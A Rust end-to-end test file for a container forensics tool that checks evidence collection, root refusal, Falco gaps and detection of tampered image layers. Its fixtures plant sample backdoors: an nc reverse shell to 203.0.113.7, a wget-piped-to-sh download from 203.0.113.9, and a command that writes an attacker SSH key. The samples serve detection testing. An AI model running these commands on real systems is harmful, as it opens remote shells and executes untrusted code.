//! The responder's first hour (issue 19), through the real binary against real podman
//! containers: a non-root run refuses before doing anything; an absent Falco is a gap, not 0
//! alerts; a second run to the same output fails at once; the bytes of a file changed in the
//! node's copy of an image layer are kept and named by the finding; the container's command is
//! in `show summary`; `--quiet` prints nothing; `--json` counts have snake_case keys.

use crate::podman::{Container, Image, podman};
use crate::util::*;
use serde_json::Value;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};

/// Entries of `dir`, sorted.
fn entries(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

/// `setpriv` as nobody (uid and gid 65534, no supplementary groups), checked to work: the test
/// fails rather than passes vacuously when it cannot drop to nobody.
fn as_nobody() -> Command {
    let check = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "id", "-u"])
        .output()
        .expect("setpriv (util-linux) runs");
    assert!(check.status.success(), "setpriv: {}", stderr(&check));
    assert_eq!(stdout(&check).trim(), "65534", "setpriv did not switch to nobody");
    let mut c = Command::new("setpriv");
    c.args([
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        env!("CARGO_BIN_EXE_forensic"),
    ]);
    c
}

/// `collect` of `target` args as nobody into `dir/b.zip`: refused with exit 2 before anything
/// is written, naming what is missing and how to run it.
#[test]
fn a_non_root_collect_is_refused_before_anything_is_written() {
    let work = tempfile::tempdir().unwrap();
    let tag = format!("nr{}", std::process::id());
    let image = Image::build(work.path(), &tag);
    let c = Container::start(&image, &format!("forensic-e2e-{tag}"));
    let (key, _) = keygen(work.path(), "responder");
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o777)).unwrap();
    let bundle = out.join("b.zip");
    let pid = c.pid().to_string();
    for target in [vec!["--pid", pid.as_str()], vec!["--container", c.name.as_str()]] {
        let mut args = vec!["collect"];
        args.extend(&target);
        args.extend(["-o", s(&bundle), "--key", s(&key)]);
        let o = as_nobody().args(&args).output().unwrap();
        assert_eq!(code(&o), 2, "{target:?}: {}{}", stdout(&o), stderr(&o));
        let err = stderr(&o);
        for needed in [
            "collection needs root",
            "running as uid 65534",
            "CAP_SYS_PTRACE",
            "CAP_DAC_READ_SEARCH",
            "sudo forensic collect",
            "nothing was collected or written",
        ] {
            assert!(err.contains(needed), "{target:?}: {needed:?} not in {err}");
        }
        if target[0] == "--container" {
            assert!(err.contains("effective uid 0"), "{err}");
            assert!(!err.contains("nonexistent"), "podman was run: {err}");
        }
        assert_eq!(stdout(&o), "", "{target:?}");
        assert_eq!(entries(&out), Vec::<String>::new(), "{target:?}: something was written");
    }
}

/// A collected bundle of a fresh container, with its JSON summary.
struct Collected {
    _image: Image,
    container: Container,
    bundle: std::path::PathBuf,
    summary: Value,
    _work: tempfile::TempDir,
}

/// Collects from a container whose main process is `sh -c SCRIPT`.
fn collected(tag: &str, script: &str) -> Collected {
    let work = tempfile::tempdir().unwrap();
    let image = Image::build(work.path(), tag);
    let container = Container::start_with(&image, &format!("forensic-e2e-{tag}"), &["/bin/sh", "-c", script]);
    let (key, _) = keygen(work.path(), "responder");
    let bundle = work.path().join("b.zip");
    let o = container.collect(&bundle, &key, &["--json"]);
    let summary = json(&o);
    Collected {
        _image: image,
        container,
        bundle,
        summary,
        _work: work,
    }
}

/// The attacker's command line, with an escape sequence that must not reach the terminal.
const ATTACK: &str = "echo 'ssh-ed25519 AAAA attacker' > /tmp/k; printf '\x1b[2J'; exec /bin/sleep 100000";

/// Falco absent (this machine has none): the bundle records a gap, stores no empty journal, and
/// `show summary` says "not collected" instead of counting 0 alerts. `--json`'s counts use the
/// documented snake_case keys. The container's command is in `container.json` and the summary,
/// escaped.
#[test]
fn absent_falco_is_a_gap_the_command_is_shown_and_json_keys_are_snake_case() {
    let journal = Command::new("journalctl")
        .args(["-u", "falco", "--no-pager", "-o", "cat", "-q"])
        .output()
        .expect("journalctl runs");
    assert!(
        journal.status.success() && journal.stdout.is_empty(),
        "this test needs a node without Falco"
    );
    let tag = format!("fh{}", std::process::id());
    let c = collected(&tag, ATTACK);

    // Point 7: the documented keys (README, collect), none in words.
    let counts = c.summary["counts"].as_object().unwrap();
    for key in [
        "processes",
        "sockets",
        "entries_indexed",
        "files_hashed",
        "files_copied",
        "upper_added",
        "upper_modified",
    ] {
        assert!(counts.contains_key(key), "{key} not in {counts:?}");
    }
    assert!(
        counts
            .keys()
            .all(|k| k.bytes().all(|b| b.is_ascii_lowercase() || b == b'_')),
        "{counts:?}"
    );
    assert!(counts["upper_added"].as_u64().unwrap() >= 1, "/tmp/k was added");

    // Point 2: a gap, no empty member, and the summary says so.
    let gaps = c.summary["gaps"].as_array().unwrap();
    let falco = gaps
        .iter()
        .find(|g| g["what"] == "Falco alerts")
        .unwrap_or_else(|| panic!("no Falco gap in {gaps:?}"));
    assert_eq!(falco["section"], "alerts");
    assert!(
        falco["reason"]
            .as_str()
            .unwrap()
            .starts_with("not collected: `journalctl -u falco` has no entries"),
        "{falco}"
    );
    let names: Vec<String> = contents(&std::fs::read(&c.bundle).unwrap())
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert!(!names.iter().any(|n| n.starts_with("8-alerts/falco")), "{names:?}");
    let o = run(&["show", s(&c.bundle), "summary"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let text = stdout(&o);
    assert!(text.contains("; Falco alerts not collected;"), "{text}");
    assert!(!text.contains("Falco alerts 0"), "{text}");
    assert!(
        text.lines()
            .any(|l| l.starts_with("Falco alerts: not collected: `journalctl -u falco` has no entries")),
        "{text}"
    );

    // Point 5: the command, in the record and the summary, escaped.
    let record = run(&["cat", s(&c.bundle), "6-podspec/container.json"]);
    assert_eq!(code(&record), 0, "{}", stderr(&record));
    let record = json(&record);
    assert_eq!(record["command"], serde_json::json!(["/bin/sh", "-c", ATTACK]));
    assert_eq!(record["process_args"], serde_json::json!(["/bin/sh", "-c", ATTACK]));
    assert!(
        record["started"].as_str().is_some_and(|t| t.starts_with("20")),
        "{record}"
    );
    let command = text
        .lines()
        .find(|l| l.starts_with("command    "))
        .unwrap_or_else(|| panic!("no command line in {text}"));
    assert!(command.starts_with("command    /bin/sh -c 'echo "), "{command}");
    assert!(command.contains("exec /bin/sleep 100000'"), "{command}");
    assert!(
        !text.contains('\x1b'),
        "an escape sequence reached the terminal: {text:?}"
    );
    let v = json(&run(&["show", s(&c.bundle), "summary", "--json"]));
    assert_eq!(v["container"]["argv"], serde_json::json!(["/bin/sh", "-c", ATTACK]));
    drop(c.container);
}

/// Point 6: `--quiet` prints nothing on success; with `--json`, only the JSON.
#[test]
fn quiet_prints_nothing_and_quiet_json_only_the_json() {
    let work = tempfile::tempdir().unwrap();
    let tag = format!("q{}", std::process::id());
    let image = Image::build(work.path(), &tag);
    let c = Container::start(&image, &format!("forensic-e2e-{tag}"));
    let (key, _) = keygen(work.path(), "responder");
    let quiet = work.path().join("quiet.zip");
    let o = c.collect(&quiet, &key, &["--quiet"]);
    assert_eq!((stdout(&o).as_str(), stderr(&o).as_str()), ("", ""));
    assert!(quiet.is_file());
    let o = c.collect(&work.path().join("quiet-json.zip"), &key, &["--quiet", "--json"]);
    assert_eq!(stderr(&o), "");
    assert_eq!(stdout(&o).lines().count(), 1, "{}", stdout(&o));
    assert!(json(&o)["counts"]["entries_indexed"].as_u64().unwrap() > 0);
}

/// Point 3: while a run writes `b.zip`, a second run to it fails at once with exit 2, naming the
/// file and the run that holds it, creating nothing; after the first finishes, a run to the
/// existing file fails the same way and leaves it untouched. The first run is held at section 8
/// by a FIFO given as its Falco log (no timing involved).
#[test]
fn a_second_run_to_the_same_output_fails_at_once() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let tag = format!("tw{}", std::process::id());
    let image = Image::build(w, &tag);
    let c = Container::start(&image, &format!("forensic-e2e-{tag}"));
    let (key, public) = keygen(w, "responder");
    let out = w.join("out");
    std::fs::create_dir(&out).unwrap();
    let bundle = out.join("b.zip");
    let fifo = w.join("falco.fifo");
    let mk = Command::new("mkfifo").arg(&fifo).output().unwrap();
    assert!(mk.status.success());
    let args = |extra: &[&str]| {
        let mut a = vec![
            "collect".to_string(),
            "--container".into(),
            c.name.clone(),
            "--runtime".into(),
            "podman".into(),
            "-o".into(),
            s(&bundle).into(),
            "--key".into(),
            s(&key).into(),
        ];
        a.extend(extra.iter().map(|x| x.to_string()));
        a
    };
    let first = forensic()
        .args(args(&["--falco-log", s(&fifo), "--json"]))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The first run has claimed the output once its temporary file exists.
    let claim = out.join(".forensic-b.zip.partial");
    c.wait_for("the first run's claim", || claim.exists());
    let inode = |p: &Path| std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(p).unwrap());
    let claimed = inode(&claim);

    let second = forensic().args(args(&[])).output().unwrap();
    assert_eq!(code(&second), 2, "{}{}", stdout(&second), stderr(&second));
    let err = stderr(&second);
    assert!(err.contains("another forensic run is writing"), "{err}");
    assert!(
        err.contains(s(&bundle)) && err.contains(".forensic-b.zip.partial"),
        "{err}"
    );
    assert_eq!(stdout(&second), "", "the second run printed a summary");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert_eq!(
        entries(&out),
        [".forensic-b.zip.partial"],
        "the second run created a file"
    );
    assert_eq!(inode(&claim), claimed, "the first run's claim was replaced");

    // Let the first run go on: its Falco log arrives.
    std::fs::OpenOptions::new()
        .write(true)
        .open(&fifo)
        .unwrap()
        .write_all(b"{\"output\":\"x\",\"priority\":\"Warning\",\"rule\":\"r\"}\n")
        .unwrap();
    let first = first.wait_with_output().unwrap();
    assert_eq!(code(&first), 0, "{}", stderr(&first));
    assert_eq!(entries(&out), ["b.zip"]);
    let v = run(&["verify", s(&bundle), "--trust", s(&public)]);
    assert_eq!(code(&v), 0, "{}", stdout(&v));

    // A later run to the existing bundle: refused before collecting, the bundle untouched.
    let before = sha256sum(&bundle);
    let third = forensic().args(args(&[])).output().unwrap();
    assert_eq!(code(&third), 2);
    assert!(stderr(&third).contains("already exists"), "{}", stderr(&third));
    assert_eq!(stdout(&third), "");
    assert_eq!(sha256sum(&bundle), before);
    assert_eq!(entries(&out), ["b.zip"]);
}

/// The finding `kind` on `path` in `forensic diff --json` output `v`, with its evidence.
fn finding_on<'a>(v: &'a Value, kind: &str, path: &str) -> (&'a Value, Vec<&'a str>) {
    let finding = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == kind && f["path"] == path)
        .unwrap_or_else(|| panic!("no {kind} finding on {path}: {}", v["findings"]));
    let evidence = finding["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e.as_str().unwrap())
        .collect();
    (finding, evidence)
}

/// The node's copy of the image layer, changed from the host while the container runs (what
/// `podman diff` cannot see).
const HELPER_ON_NODE: &[u8] = b"#!/bin/sh\n# backdoor planted in the node's layer\nnc -e /bin/sh 203.0.113.7 4444\n";

/// Point 4: a file changed in the node's copy of an image layer is kept byte for byte under
/// `5-filesystem/changed/` (CONTENTS.md §3), and `forensic diff --image`'s finding names that
/// copy; a file the container wrote is kept once, in the writable layer's copies.
#[test]
fn a_file_changed_in_the_nodes_layer_is_kept_and_named_by_the_finding() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let tag = format!("kp{}", std::process::id());
    let image = Image::build_with(w, &tag, &[("etc/e2e-tag", format!("keep proof {tag}\n").as_bytes())]);
    let saved = w.join("image.oci.tar");
    podman(&["image", "save", "--format", "oci-archive", "-o", s(&saved), &image.name]);
    let c = Container::start(&image, &format!("forensic-e2e-{tag}"));
    c.sh("echo dropped > /tmp/dropped.txt");
    let o = podman(&["inspect", "--format", "{{.GraphDriver.Data.LowerDir}}", &c.name]);
    let lower = String::from_utf8_lossy(&o.stdout).trim().to_string();
    let top = lower.split(':').next().unwrap();
    std::fs::write(Path::new(top).join("usr/bin/report"), HELPER_ON_NODE).unwrap();

    let (key, _) = keygen(w, "responder");
    let bundle = w.join("b.zip");
    let o = c.collect(&bundle, &key, &["--json"]);
    assert!(json(&o)["counts"]["changed_copied"].as_u64().unwrap() >= 1);
    let members = contents(&std::fs::read(&bundle).unwrap());
    let copy = members
        .iter()
        .find(|(n, _)| n == "5-filesystem/changed/usr/bin/report")
        .unwrap_or_else(|| panic!("no copy: {:?}", members.iter().map(|m| &m.0).collect::<Vec<_>>()));
    assert_eq!(copy.1, HELPER_ON_NODE, "the copy is not byte-exact");
    let cat = run(&["cat", s(&bundle), "5-filesystem/changed/usr/bin/report"]);
    assert_eq!(code(&cat), 0, "{}", stderr(&cat));
    assert_eq!(cat.stdout, HELPER_ON_NODE);
    // The container's own write is in the writable layer's copies, not copied twice.
    assert!(members.iter().any(|(n, _)| n == "5-filesystem/upper/tmp/dropped.txt"));
    assert!(!members.iter().any(|(n, _)| n == "5-filesystem/changed/tmp/dropped.txt"));

    let o = run(&["diff", s(&bundle), "--image", s(&saved), "--json"]);
    // Differences found (the exit code of that outcome is README's exit-code table's business).
    assert!(matches!(code(&o), 1 | 3), "{}", stderr(&o));
    let v = json(&o);
    let (_, evidence) = finding_on(&v, "lower-layer-changed", "/usr/bin/report");
    assert!(
        evidence.contains(&"5-filesystem/changed/usr/bin/report"),
        "{evidence:?}"
    );
}

/// The node's copy of an image layer, changed before the container started, its modification
/// time set back: the start-time rule cannot see it.
const BACKDATED_ON_NODE: &[u8] =
    b"#!/bin/sh\n# planted in the node's layer before the start\nwget -qO- http://203.0.113.9/x | sh\n";

/// Point 4, before the start: each lower-layer file is checked against containers/storage's
/// tar-split record of its layer (size and CRC-64/ISO, CONTENTS.md §7); one that differs is
/// marked `differs` in `9-image/layers/N.jsonl`, kept byte for byte under
/// `9-image/layer-changed/N/…`, and named by `forensic diff --image-from-bundle`'s
/// `layer-checksum-mismatch` finding. `podman image save`, reading the same record, fails too.
#[test]
fn a_layer_file_changed_before_the_start_is_found_by_the_layer_record_and_kept() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let tag = format!("ls{}", std::process::id());
    let image = Image::build_with(w, &tag, &[("etc/e2e-tag", format!("layer record {tag}\n").as_bytes())]);
    let o = podman(&[
        "image",
        "inspect",
        "--format",
        "{{.GraphDriver.Data.UpperDir}}",
        &image.name,
    ]);
    let layer = String::from_utf8_lossy(&o.stdout).trim().to_string();
    let helper = Path::new(&layer).join("usr/bin/report");
    std::fs::write(&helper, BACKDATED_ON_NODE).unwrap();
    let touch = Command::new("touch")
        .args(["-d", "2024-01-01 00:00:00"])
        .arg(&helper)
        .status()
        .unwrap();
    assert!(touch.success());
    // Its change time is now; the container starts later, so the start-time rule misses it.
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let c = Container::start(&image, &format!("forensic-e2e-{tag}"));

    let (key, _) = keygen(w, "responder");
    let bundle = w.join("b.zip");
    c.collect(&bundle, &key, &[]);
    let members = contents(&std::fs::read(&bundle).unwrap());
    let names: Vec<&str> = members.iter().map(|m| m.0.as_str()).collect();
    let copy = "9-image/layer-changed/0/usr/bin/report";
    let kept = members
        .iter()
        .find(|(n, _)| n == copy)
        .unwrap_or_else(|| panic!("no copy: {names:?}"));
    assert_eq!(kept.1, BACKDATED_ON_NODE, "the copy is not byte-exact");
    assert!(
        !names.contains(&"5-filesystem/changed/usr/bin/report"),
        "not by the start-time rule"
    );
    let copied: Vec<&&str> = names
        .iter()
        .filter(|n| n.starts_with("9-image/layer-changed/"))
        .collect();
    assert_eq!(copied, [&copy], "untampered files are not copied");
    let index = &members.iter().find(|(n, _)| n == "9-image/layers/0.jsonl").unwrap().1;
    let checksum = |path: &str| -> Value {
        index
            .split(|&b| b == b'\n')
            .filter(|l| !l.is_empty())
            .map(|l| serde_json::from_slice::<Value>(l).unwrap())
            .find(|v| v["path"] == path)
            .unwrap_or_else(|| panic!("{path} not indexed"))["layer_checksum"]
            .clone()
    };
    assert_eq!(checksum("/usr/bin/report"), "differs");
    assert_eq!(checksum("/etc/passwd"), "ok");
    assert_eq!(checksum("/bin"), Value::Null, "directories are not checked");

    let o = run(&["diff", s(&bundle), "--image-from-bundle", "--json"]);
    assert_eq!(code(&o), 3, "{}", stderr(&o));
    let v = json(&o);
    let (finding, evidence) = finding_on(&v, "layer-checksum-mismatch", "/usr/bin/report");
    assert_eq!(finding["severity"], "high");
    assert!(evidence.contains(&copy), "{evidence:?}");
    assert!(
        evidence.iter().any(|e| e.starts_with("9-image/layers/0.jsonl line ")),
        "{evidence:?}"
    );

    // The same record, read by podman itself.
    let save = Command::new("podman")
        .args(["image", "save", "-o"])
        .arg(w.join("img.tar"))
        .arg(&image.name)
        .output()
        .unwrap();
    assert!(!save.status.success());
    let err = String::from_utf8_lossy(&save.stderr);
    assert!(
        err.contains("file integrity checksum failed for \"./usr/bin/report\""),
        "{err}"
    );
}
